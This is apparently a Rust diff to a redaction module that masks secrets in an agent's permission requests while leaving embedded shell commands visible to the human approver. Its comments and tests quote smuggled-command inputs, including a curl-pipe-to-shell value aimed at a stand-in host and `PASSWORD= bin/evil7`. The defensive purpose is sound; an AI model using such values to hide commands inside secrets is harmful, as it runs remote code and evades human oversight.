@@ -1,7 +1,8 @@
 //! Masking what an agent asks permission for. Whoever decides about a command must see all of it that a shell would
 //! act on: in `API_TOKEN="x$(curl evil.example|sh)7" make` the value looks like a secret, and is the command. So a
 //! secret is masked there only where it holds no syntax, and its length stands in its place. A private key in PEM form
-//! is shown as it is: it spans lines, each of which a shell reads as a command, and `/usr/sbin/poweroff` is Base64.
+//! is shown as it is: it spans lines, each of which a shell reads as a command, and `/usr/sbin/poweroff` is Base64. So is
+//! what stands behind an assignment and a blank: in `TOKEN= python3 evil.py` a shell runs `python3`.
 
 use super::Redaction;
 use crate::PermissionRequest;
@@ -25,18 +26,24 @@ impl Redaction {
 
     /// First the bot's own credentials: the form of a secret around one may take in what is shown.
     fn mask_inert(&self, text: &mut String) -> bool {
-        let own = mask_those(&self.own_patterns(), text, |_| true);
+        let own = mask_those(&self.own_patterns(), text, |_, _| true);
+        let is_inert = |before: &str, words: &str| is_inert(words) && !is_behind_assignment(before);
         mask_those(&self.patterns(), text, is_inert) || own
     }
 }
 
-/// Masks the secrets that these patterns find, of which the words are such. True where there are any.
-fn mask_those(patterns: &Arc<Patterns>, text: &mut String, such: impl Fn(&str) -> bool) -> bool {
+/// Masks the secrets that these patterns find and that may be masked by the text before them and their words. True where
+/// there are any.
+fn mask_those(
+    patterns: &Arc<Patterns>,
+    text: &mut String,
+    may_be_masked: impl Fn(&str, &str) -> bool,
+) -> bool {
     let mut masked = String::new();
     let mut at = 0;
     for secret in patterns.secrets(text) {
         let words = secret.span.of(text);
-        if such(words) {
+        if may_be_masked(&text[..secret.span.start], words) {
             masked.push_str(&text[at..secret.span.start]);
             // Writing to a String cannot fail.
             let _ = write!(masked, "[redacted: {} characters]", words.chars().count());
@@ -56,6 +63,17 @@ fn is_inert(words: &str) -> bool {
     words
         .chars()
         .all(|c| c.is_alphanumeric() || "_-.+/=:@%,".contains(c))
+}
+
+/// True where a word with `=` and a blank end this text, with a quote behind them or none: what follows is a word of its
+/// own, and may be the program that runs with the assignment. A quotation behind a lone `=` is a value in every shell.
+fn is_behind_assignment(before: &str) -> bool {
+    let unquoted = before.strip_suffix(['"', '\'', '`']).unwrap_or(before);
+    let is_quoted = unquoted.len() < before.len();
+    let unquoted = unquoted.strip_suffix('\\').unwrap_or(unquoted);
+    let words = unquoted.trim_end_matches([' ', '\t']);
+    let word = words.rsplit(char::is_whitespace).next().unwrap_or_default();
+    words.len() < unquoted.len() && word.contains('=') && !(is_quoted && word == "=")
 }
 
 #[cfg(test)]
@@ -113,6 +131,21 @@ mod tests {
             "PASSWORD=\n/usr/sbin/poweroff7",
             "password:\n/usr/sbin/poweroff7",
             "Authorization: Bearer\n/usr/sbin/poweroff7",
+            // The program that runs with an empty variable.
+            "TOKEN= python3 evil.py",
+            "PASSWORD= bin/evil7",
+            "PASSWORD= \t 'bin/evil7'",
+            r#"PASSWORD= "bin/evil7""#,
+            r#"{"command":"PASSWORD= bin/evil7"}"#,
+            r#"{"command":"PASSWORD= \"bin/evil7\""}"#,
+            "TOKEN=> bin/evil7",
+            "TOKEN=** bin/evil7",
+            "$token = bin/evil7",
+            // Or with one that holds the word.
+            "X=token: bin/evil7",
+            "X=Bearer bin/evil7",
+            "X=--token bin/evil7",
+            r#"{"command":"TOKEN=\\"\\" bin/evil7"}"#,
         ] {
             assert_eq!(asked(command), (command.to_owned(), false));
         }
@@ -132,6 +165,14 @@ mod tests {
         assert_eq!(
             masked(r#"{"command":"deploy --token ghp_abcdefghijklmnopqrstuvwxyz0123456789"}"#),
             r#"{"command":"deploy --token [redacted: 40 characters]"}"#
+        );
+        assert_eq!(
+            masked(r#"{"password": "hunter2zz9"}"#),
+            r#"{"password": "[redacted: 10 characters]"}"#
+        );
+        assert_eq!(
+            masked("password = \"hunter2zz9\"\n"),
+            "password = \"[redacted: 10 characters]\"\n"
         );
         assert_eq!(
             masked("echo our own $(words)!"),
